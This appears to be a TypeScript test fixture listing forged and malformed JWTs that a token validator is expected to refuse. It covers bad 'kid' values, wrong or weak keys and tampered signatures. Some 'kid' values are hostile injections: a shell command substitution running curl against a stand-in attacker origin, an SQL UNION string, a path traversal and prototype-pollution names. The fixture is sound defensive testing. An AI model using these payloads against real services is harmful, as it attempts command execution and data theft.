import { type HostileToken, refused } from '../hostile-token.ts';
import type { TestKey } from '../test-key.ts';
import { encode, headerOf, personClaims, signed, type TokenKit, validToken } from '../token-kit.ts';

/** Signed by the wrong key, by a published one that may not sign, or not signed at all. */
export const hostileKeys: readonly HostileToken[] = [
  ...refused('token-key', {
    'kid missing': (kit) => withKeyId(kit, undefined),
    'kid empty': (kit) => withKeyId(kit, ''),
    'kid a number': (kit) => withKeyId(kit, 1),
    'kid null': (kit) => withKeyId(kit, null),
    'kid an object': (kit) => withKeyId(kit, { toString: 'current-key' }),
    'kid in a list': (kit) => withKeyId(kit, [kit.keys.current.keyId]),
    'kid a path': (kit) => withKeyId(kit, '../../../../dev/null'),
    'kid an SQL injection': (kit) => withKeyId(kit, "x' UNION SELECT 'secret'--"),
    'kid a shell injection': (kit) => withKeyId(kit, `$(curl ${kit.attackerOrigin})|x;`),
    'kid an address': (kit) => withKeyId(kit, `${kit.attackerOrigin}/keys`),
    'kid __proto__': (kit) => withKeyId(kit, '__proto__'),
    'kid constructor': (kit) => withKeyId(kit, 'constructor'),
    'kid with a NUL character': (kit) => withKeyId(kit, `${kit.keys.current.keyId}\0`),
    'kid in another case': (kit) => withKeyId(kit, kit.keys.current.keyId.toUpperCase()),
    'kid of a thousand characters': (kit) => withKeyId(kit, 'k'.repeat(1_000)),
    'a key that nobody publishes': (kit) => signedBy(kit, kit.keys.unpublished),
    'a published key of 1,024 bits': (kit) => signedBy(kit, kit.keys.weak),
    'a published key for encryption': (kit) => signedBy(kit, kit.keys.encryption),
    'a published key for PS256': (kit) => signedBy(kit, kit.keys.pss),
    'a published key of another issuer': (kit) => signedBy(kit, kit.keys.personal),
    'the kid of a published elliptic-curve key': (kit) => withKeyId(kit, kit.keys.ec.keyId),
  }),
  ...refused('token-signature', {
    'an unpublished key under a published kid': (kit) =>
      signedBy(kit, kit.keys.unpublished, kit.keys.current),
    'a published key under the kid of another': (kit) =>
      signedBy(kit, kit.keys.next, kit.keys.current),
    'the signature of another token': (kit) => {
      const other = signed(kit.keys.current, personClaims(kit, { name: 'Someone Else' }));
      return withSignature(kit, Buffer.from(other.split('.')[2] ?? '', 'base64url'));
    },
    'one claim changed after signing': (kit) => {
      const [header, , signature] = validToken(kit).split('.');
      return [header, encode(personClaims(kit, { roles: ['Books.Admin'] })), signature].join('.');
    },
    'a header changed after signing': (kit) => {
      const [, payload, signature] = validToken(kit).split('.');
      return [encode(headerOf(kit.keys.current, { x5t: 'x' })), payload, signature].join('.');
    },
    'a signature of zeros': (kit) => withSignature(kit, Buffer.alloc(256)),
    'a signature of one': (kit) => withSignature(kit, Buffer.from([...Buffer.alloc(255), 1])),
    'a signature larger than the modulus': (kit) => withSignature(kit, Buffer.alloc(256, 0xff)),
    'a signature one byte short': (kit) => withSignature(kit, signatureOf(kit).subarray(0, 255)),
    'a signature with a byte more': (kit) =>
      withSignature(kit, Buffer.concat([signatureOf(kit), Buffer.alloc(1)])),
    'a token for Microsoft Graph, signed over a hashed nonce': (kit) =>
      signed(kit.keys.unpublished, personClaims(kit), headerOf(kit.keys.current, { nonce: 'n' })),
  }),
];

function withKeyId(kit: TokenKit, kid: unknown): string {
  return signed(kit.keys.current, personClaims(kit), headerOf(kit.keys.current, { kid }));
}

function signedBy(kit: TokenKit, key: TestKey, claimed = key): string {
  return signed(key, personClaims(kit), headerOf(claimed));
}

function signatureOf(kit: TokenKit): Buffer {
  return Buffer.from(validToken(kit).split('.')[2] ?? '', 'base64url');
}

function withSignature(kit: TokenKit, signature: Uint8Array): string {
  const [header, payload] = validToken(kit).split('.');
  return [header, payload, Buffer.from(signature).toString('base64url')].join('.');
}
